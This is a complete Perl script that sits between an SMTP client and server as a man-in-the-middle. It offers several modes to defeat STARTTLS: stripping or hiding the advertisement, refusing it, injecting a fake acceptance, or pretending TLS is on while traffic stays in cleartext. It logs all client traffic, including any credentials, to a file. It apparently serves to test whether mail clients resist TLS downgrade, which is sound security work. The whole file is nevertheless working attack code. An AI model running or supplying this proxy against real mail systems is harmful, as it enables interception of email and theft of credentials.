#!/usr/bin/perl
# SPDX-License-Identifier: BSD-2-Clause
#
# mitm - sit between an SMTP client and its server, and do away with TLS:
# mitm.pl ADDRESS PORT SERVER-ADDRESS SERVER-PORT FILE ATTACK
#
#	none	hand everything on
#	strip	leave STARTTLS out of what the server offers
#	hide	cover it up, as some firewalls do
#	unknown	tell the client that its EHLO is not understood
#	refuse	answer STARTTLS in the server's place, with 454
#	inject	add a reply of ours behind the server's to STARTTLS
#	pretend	say yes to STARTTLS, and talk on in the clear
#	cut	hang up when the handshake begins
#
# Says "listening" when it does.  All that a client sends goes to FILE, one
# connection behind the other, as it came over the wire.
use strict;
use warnings;
use IO::Select;
use IO::Socket::IP;

my ($address, $port, $server, $server_port, $file, $attack) = @ARGV;
my $listener = IO::Socket::IP->new(LocalHost => $address, LocalPort => $port,
    Listen => 16, ReuseAddr => 1) or die "mitm: listen: $@\n";
open my $record, ">>", $file or die "mitm: $file: $!\n";
binmode $record;
$record->autoflush(1);
$| = 1;
$SIG{CHLD} = "IGNORE";
$SIG{TERM} = sub { exit 0 };
print "listening\n";

# What the client said, and what to do with it: undef, to the server; else
# our own answer, "" for none.
sub answer {
	my ($said) = @_;

	return "500 5.5.1 what?\r\n" if $attack eq "unknown" &&
	    $said =~ /^EHLO/i;
	return undef if $said !~ /^STARTTLS/i;
	return "454 4.7.0 not now\r\n" if $attack eq "refuse";
	return "220 2.0.0 go on\r\n" if $attack eq "pretend";
	return undef;
}

# What the server said, as the client shall see it.
sub reply {
	my ($said, $asked) = @_;

	if ($attack eq "strip") {
		$said =~ s/^250-STARTTLS\r\n//m;
		$said =~ s/^250-([^\r]*)\r\n250 STARTTLS\r\n/250 $1\r\n/m;
	}
	$said =~ s/STARTTLS/XXXXXXXX/ if $attack eq "hide";
	$said .= "250 2.0.0 ok\r\n" if $attack eq "inject" &&
	    $asked =~ /^STARTTLS/i;
	return $said;
}

sub attack {
	my ($client) = @_;
	my $to = IO::Socket::IP->new(PeerHost => $server,
	    PeerPort => $server_port) or return;
	my $both = IO::Select->new($client, $to);
	my $asked = "";
	my $opaque = 0;		# what goes by is TLS, or was to be

	while (my @ready = $both->can_read(30)) {
		for my $from (@ready) {
			my $n = sysread $from, my $said, 65536;
			my $other = $from == $client ? $to : $client;
			return if !$n;
			if ($from == $client) {
				syswrite $record, $said;
				return if $opaque && $attack eq "cut";
				my $own = $opaque ? undef : answer($said);
				$own = "500 5.5.2 what?\r\n"
				    if $asked eq "pretended";
				$asked = $said if !$opaque;
				$asked = "pretended" if defined $own &&
				    $attack eq "pretend";
				if (defined $own) {
					$other = $client;
					$said = $own;
				}
			} elsif (!$opaque) {
				$said = reply($said, $asked);
				$opaque = $asked =~ /^STARTTLS/i;
			}
			syswrite $other, $said;
		}
	}
}

while (1) {
	my $client = $listener->accept or next;
	my $child = fork;
	if (defined $child && $child == 0) {
		attack($client);
		exit 0;
	}
	close $client;
}
